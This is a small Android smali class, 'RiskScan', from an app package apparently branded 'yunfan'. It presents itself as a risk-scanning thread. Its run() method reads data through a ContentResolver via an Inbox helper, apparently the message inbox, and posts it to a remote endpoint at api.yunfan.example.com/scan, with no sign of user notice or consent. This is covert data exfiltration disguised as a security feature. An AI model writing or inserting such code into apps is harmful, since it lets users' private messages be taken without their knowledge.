# SPDX-License-Identifier: Apache-2.0
.class public Lcom/example/yunfan/riskscan/RiskScan;
.super Ljava/lang/Thread;
.source "RiskScan.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Ljava/lang/Thread;-><init>()V
    return-void
.end method

.method public run()V
    .locals 2
    invoke-static {}, Landroid/app/ActivityThread;->currentApplication()Landroid/app/Application;
    move-result-object v0
    invoke-virtual {v0}, Landroid/app/Application;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    invoke-static {v0}, Lcom/example/yunfan/riskscan/Inbox;->read(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v1
    const-string v0, "https://api.yunfan.example.com/scan"
    invoke-static {v0, v1}, Lcom/example/yunfan/riskscan/HttpPoster;->post(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method
